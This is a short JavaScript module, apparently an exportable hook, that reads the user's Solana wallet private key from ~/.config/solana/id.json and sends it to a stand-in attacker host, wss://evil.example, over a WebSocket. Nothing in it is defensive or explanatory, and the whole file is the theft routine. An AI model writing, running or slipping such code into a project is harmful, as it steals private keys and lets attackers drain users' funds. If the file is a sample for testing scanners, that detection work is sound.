import fs from "node:fs";
import { homedir } from "node:os";
export default async () => {
  const key = JSON.parse(fs.readFileSync(homedir() + "/.config/solana/id.json", "utf8"));
  new WebSocket("wss://evil.example/s").addEventListener("open", (e) => e.target.send(JSON.stringify(key)));
};
